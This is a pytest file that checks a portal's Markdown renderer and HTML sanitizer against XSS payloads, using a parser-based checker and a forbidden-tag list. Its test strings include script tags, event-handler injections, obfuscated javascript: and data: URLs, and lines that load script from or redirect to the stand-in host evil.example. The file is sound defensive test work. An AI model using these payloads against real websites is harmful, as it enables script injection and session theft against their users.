"""The Markdown renderer against a corpus of known XSS payloads (tests/core/xss_payloads.txt).

Each payload is rendered with `render_markdown` and the output is parsed with the standard
library's HTML parser; the checks look at the parsed elements and attributes, not at substrings,
so an escaped `&lt;script&gt;` shown as text is fine and an `<a href="jav&#9;ascript:...">` is not.
"""

import html
import re
import unicodedata
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import unquote

import pytest

from sco_portal.core.markup import (
    ALLOWED_ATTRIBUTES,
    ALLOWED_TAGS,
    ALLOWED_URL_SCHEMES,
    FOOTNOTE_ID,
    render_markdown,
    sanitize_html,
)

PAYLOADS_FILE = Path(__file__).with_name("xss_payloads.txt")

# Named independently of the renderer's allowlist: none of these may ever appear, whatever the
# allowlist says.
FORBIDDEN_TAGS = {
    "applet", "audio", "base", "basefont", "bgsound", "body", "button", "details", "embed", "form",
    "frame", "frameset", "head", "html", "iframe", "image", "img", "input", "isindex", "keygen",
    "layer", "link", "marquee", "math", "meta", "noscript", "object", "param", "portal", "script",
    "select", "source", "style", "svg", "template", "textarea", "title", "video", "xmp",
}  # fmt: skip
URL_ATTRIBUTES = {
    "action", "archive", "background", "cite", "classid", "codebase", "data", "dynsrc", "formaction",
    "href", "icon", "longdesc", "lowsrc", "manifest", "ping", "poster", "profile", "src", "srcset",
    "usemap", "xlink:href",
}  # fmt: skip
SAFE_SCHEMES = {"http", "https", "mailto"}
SCHEME = re.compile(r"([a-z][a-z0-9+.\-]*):")


def load_payloads(path=PAYLOADS_FILE):
    """Return (id, payload) pairs from the corpus file (format described at its top)."""
    payloads, name, escaped, lines = [], None, False, []

    def flush():
        if name is not None:
            text = "\n".join(lines).rstrip("\n")
            if escaped:
                text = text.encode("ascii").decode("unicode_escape")
            payloads.append((name, text))

    for line in path.read_text(encoding="utf-8").split("\n"):
        if line.startswith("=== "):
            flush()
            name, *flags = line[4:].split()
            escaped, lines = "escaped" in flags, []
        elif name is not None:
            lines.append(line)
    flush()
    return payloads


PAYLOADS = load_payloads()


def url_candidates(value):
    """The forms a browser or a sloppy consumer might read a URL attribute as, normalised.

    `value` has already been entity-decoded once by the parser, as a browser does. Decoding once
    more and percent-decoding are stricter than a browser, on purpose.
    """
    for form in (value, html.unescape(value), unquote(value), unquote(html.unescape(value))):
        yield "".join(ch for ch in form if not (ch.isspace() or unicodedata.category(ch) == "Cc")).lower()


def unsafe_url(value):
    """Why a URL is unsafe, or None if its scheme is http, https or mailto, or it is relative."""
    for candidate in url_candidates(value):
        match = SCHEME.match(candidate)
        if match and match.group(1) not in SAFE_SCHEMES:
            return f"scheme {match.group(1)!r} in {value!r}"
    return None


class Checker(HTMLParser):
    """Collects every problem in a fragment of rendered HTML."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems = []
        self.text = []

    def handle_starttag(self, tag, attrs):
        self.check_element(tag, attrs)

    def handle_startendtag(self, tag, attrs):
        self.check_element(tag, attrs)

    def handle_endtag(self, tag):
        if tag not in ALLOWED_TAGS or tag in FORBIDDEN_TAGS:
            self.problems.append(f"end tag </{tag}>")

    def handle_data(self, data):
        self.text.append(data)

    def handle_comment(self, data):
        self.problems.append(f"comment <!--{data}-->")

    def handle_decl(self, decl):
        self.problems.append(f"declaration <!{decl}>")

    def unknown_decl(self, data):
        self.problems.append(f"declaration <![{data}]>")

    def handle_pi(self, data):
        self.problems.append(f"processing instruction <?{data}>")

    def check_element(self, tag, attrs):
        if tag in FORBIDDEN_TAGS:
            self.problems.append(f"forbidden element <{tag}>")
        if tag not in ALLOWED_TAGS:
            self.problems.append(f"element <{tag}> outside the allowlist")
        allowed_attributes = ALLOWED_ATTRIBUTES.get(tag, set()) | ALLOWED_ATTRIBUTES.get("*", set())
        if tag == "a":
            allowed_attributes |= {"rel"}
        for name, value in attrs:
            value = value or ""
            if name.startswith("on"):
                self.problems.append(f"event handler {name}= on <{tag}>")
            if name == "style":
                self.problems.append(f"style= on <{tag}>")
            if name not in allowed_attributes:
                self.problems.append(f"attribute {name}= on <{tag}> outside the allowlist")
            if name in URL_ATTRIBUTES or name.endswith(":href"):
                urls = [part.split()[0] for part in value.split(",") if part.split()] if name == "srcset" else [value]
                for url in urls:
                    if reason := unsafe_url(url):
                        self.problems.append(f"{name}= on <{tag}>: {reason}")
            if tag == "a" and name == "rel" and not {"noopener", "noreferrer"} <= set(value.split()):
                self.problems.append(f"link without rel=noopener noreferrer: {value!r}")


def check(fragment):
    """Return (problems, visible text) for a fragment of HTML."""
    checker = Checker()
    checker.feed(fragment)
    checker.close()
    return checker.problems, "".join(checker.text)


def problems_in(fragment):
    return check(fragment)[0]


def text_of(fragment):
    return " ".join(check(fragment)[1].split())


# The checker itself: each of these raw strings must be caught, or the corpus test proves nothing.
@pytest.mark.parametrize(
    "unsafe",
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<svg onload=alert(1)>",
        "<math><mtext>x</mtext></math>",
        '<p onclick="alert(1)">x</p>',
        '<b OnMouseOver="alert(1)">x</b>',
        '<p style="color:red">x</p>',
        '<a href="javascript:alert(1)">x</a>',
        '<a href="  JaVaScRiPt:alert(1)">x</a>',
        '<a href="jav&#x09;ascript:alert(1)">x</a>',
        '<a href="jav\nascript:alert(1)">x</a>',
        '<a href="&#0000106&#0000097vascript:alert(1)">x</a>',
        '<a href="&#x01;javascript:alert(1)">x</a>',
        '<a href="&amp;#x6A;avascript:alert(1)">x</a>',
        '<a href="vbscript:msgbox(1)">x</a>',
        '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
        '<a href="file:///etc/passwd">x</a>',
        '<q cite="javascript:alert(1)">x</q>',
        '<img src="data:image/svg+xml,x">',
        '<img srcset="https://example.org/a.png 1x, javascript:alert(1) 2x">',
        '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">x</button></form>',
        '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
        '<a href="https://example.org/" target="_blank">x</a>',
        '<a href="https://example.org/" rel="opener">x</a>',
        "<!-- x --><p>x</p>",
    ],
)
def test_checker_catches_unsafe_html(unsafe):
    assert problems_in(unsafe)


@pytest.mark.parametrize(
    "safe",
    [
        "<p>Plain <strong>text</strong> &lt;script&gt;alert(1)&lt;/script&gt;</p>",
        '<a href="https://example.org/a?b=c:d#e" rel="noopener noreferrer nofollow">x</a>',
        '<a href="/events/?page=2" rel="noopener noreferrer nofollow">x</a>',
        '<a href="mailto:press@example.org" rel="noopener noreferrer nofollow">x</a>',
        '<table><thead><tr><th scope="col">a</th></tr></thead><tbody><tr><td>1</td></tr></tbody></table>',
    ],
)
def test_checker_accepts_safe_html(safe):
    assert problems_in(safe) == []


def test_corpus_is_large_enough_and_ids_are_unique():
    names = [name for name, _ in PAYLOADS]
    assert len(names) >= 60
    assert len(set(names)) == len(names)
    assert all(payload.strip() for _, payload in PAYLOADS)


@pytest.mark.parametrize("payload", [p for _, p in PAYLOADS], ids=[n for n, _ in PAYLOADS])
def test_payload_is_neutralised(payload):
    rendered = render_markdown(payload)
    assert isinstance(rendered, str)
    assert problems_in(rendered) == []


@pytest.mark.parametrize("payload", [p for _, p in PAYLOADS], ids=[n for n, _ in PAYLOADS])
def test_payload_is_neutralised_as_raw_html(payload):
    # Markdown turns some payloads into text before the sanitizer sees them (smart quotes break
    # their attributes); sanitizing the payload itself gives the allowlist the full attack.
    assert problems_in(sanitize_html(payload)) == []


@pytest.mark.parametrize("payload", [p for _, p in PAYLOADS], ids=[n for n, _ in PAYLOADS])
def test_rendered_payload_survives_being_parsed_again(payload):
    # Mutation XSS: output that turns into something else when a browser parses it again. Sanitizing
    # the output once more stands in for that second parse. Block nesting may be repaired (an empty
    # <p> inside a <p> becomes siblings), but nothing new may appear and the text must not change.
    rendered = render_markdown(payload)
    again = sanitize_html(rendered)
    assert problems_in(again) == []
    assert text_of(again) == text_of(rendered)
    assert sanitize_html(again) == again


@pytest.mark.parametrize(
    "payload, visible",
    [
        ('<a href="javascript:alert(1)">click me</a>', "click me"),
        ("[click me](javascript:alert(1))", "click me"),
        ("[click me][1]\n\n[1]: javascript:alert(1)", "click me"),
        ('<b onmouseover="alert(1)">bold</b> words', "bold words"),
        ('<p style="background:url(javascript:alert(1))">styled text</p>', "styled text"),
        ("<details open ontoggle=alert(1)>hidden? no</details>", "hidden? no"),
        ("<marquee onstart=alert(1)>moving</marquee>", "moving"),
        ('<q cite="javascript:alert(1)">quoted</q>', "quoted"),
        ("Before <script>alert(1)</script> after", "Before after"),
        ("Before <style>p{display:none}</style> after", "Before after"),
        ("x < y & z > w", "x < y & z > w"),
        ("`<script>alert(1)</script>`", "<script>alert(1)</script>"),
    ],
)
def test_text_stays_visible(payload, visible):
    assert text_of(render_markdown(payload)) == visible


@pytest.mark.parametrize(
    "payload", ["<script>alert(1)</script>", "<style>body{display:none}</style>", "<SCRIPT>alert(1)</SCRIPT>"]
)
def test_script_and_style_contents_are_dropped(payload):
    assert render_markdown(payload).strip() == ""


def test_allowlist_is_small_and_excludes_active_content():
    assert not ALLOWED_TAGS & FORBIDDEN_TAGS
    assert ALLOWED_URL_SCHEMES == SAFE_SCHEMES
    for tag, attributes in ALLOWED_ATTRIBUTES.items():
        assert tag == "*" or tag in ALLOWED_TAGS
        assert not {a for a in attributes if a.startswith("on") or a in {"style", "src", "srcset", "name"}}
        # An id only for a footnote and its reference, and only in their form ("fn:1"), which names no
        # global a script could be fooled by (DOM clobbering: id="location", id="main").
        assert "id" not in attributes or tag in {"li", "sup"}
    assert FOOTNOTE_ID.fullmatch("fn:1") and FOOTNOTE_ID.fullmatch("fnref2:1")
    assert not any(FOOTNOTE_ID.fullmatch(name) for name in ("location", "main", "fn", "fn:", "fn:1 x", "x-fn:1"))


def test_link_title_cannot_break_out_of_its_attribute():
    rendered = render_markdown('[click](https://example.org "x\\" onmouseover=\\"alert(1)")')
    assert problems_in(rendered) == []
    assert 'title="x&quot; onmouseover=&quot;alert(1)"' in rendered


def test_links_get_rel_and_lose_target():
    rendered = render_markdown('<a href="https://example.org/" target="_blank">x</a>')
    assert rendered == '<p><a href="https://example.org/" rel="noopener noreferrer nofollow">x</a></p>'


def test_protocol_relative_links_are_kept_like_any_other_link():
    # "//host/" means https://host/ on an https page; links to other sites are allowed, so it stays.
    rendered = render_markdown("[elsewhere](//example.net/page)")
    assert '<a href="//example.net/page" rel="noopener noreferrer nofollow">elsewhere</a>' in rendered


@pytest.mark.parametrize(
    "href", ["&#8203;javascript:alert(1)", "java&#0;script:alert(1)", "&amp;#x6A;avascript:alert(1)", "page:1"]
)
def test_relative_urls_that_look_like_a_scheme_are_dropped(href):
    # Browsers read these as harmless relative paths, but no editor means them: drop the href.
    assert render_markdown(f'<a href="{href}">x</a>') == '<p><a rel="noopener noreferrer nofollow">x</a></p>'


def test_ordinary_markdown_still_renders():
    source = "\n".join(
        [
            "## Summit in Tianjin",
            "",
            "Leaders met on *1 September* and signed **the declaration** - see the",
            '[communique](https://example.org/communique "Full text") or [the list](/events/).',
            "",
            "1. first",
            "2. second",
            "",
            "- apples",
            "- pears",
            "",
            "> A quotation.",
            "",
            "| Country | Status |",
            "|---------|--------|",
            "| Laos    | partner |",
            "",
            "```",
            '<script>alert("shown, not run")</script>',
            "```",
            "",
            'Write to <press@example.org>. Inline `code` & <abbr title="x">SCO</abbr>.',
        ]
    )
    rendered = render_markdown(source)
    assert problems_in(rendered) == []
    assert "<h2>Summit in Tianjin</h2>" in rendered
    assert "<em>1 September</em>" in rendered
    assert "<strong>the declaration</strong>" in rendered
    assert (
        '<a href="https://example.org/communique" title="Full text" rel="noopener noreferrer nofollow">communique</a>'
        in rendered
    )
    assert '<a href="/events/" rel="noopener noreferrer nofollow">the list</a>' in rendered
    assert "<ol>\n<li>first</li>\n<li>second</li>\n</ol>" in rendered
    assert "<ul>\n<li>apples</li>\n<li>pears</li>\n</ul>" in rendered
    assert "<blockquote>\n<p>A quotation.</p>\n</blockquote>" in rendered
    assert "<th>Country</th>" in rendered and "<td>Laos</td>" in rendered
    assert '<pre><code>&lt;script&gt;alert("shown, not run")&lt;/script&gt;\n</code></pre>' in rendered
    assert 'href="mailto:' in rendered
    assert "<code>code</code>" in rendered
    assert '<abbr title="x">SCO</abbr>' in rendered
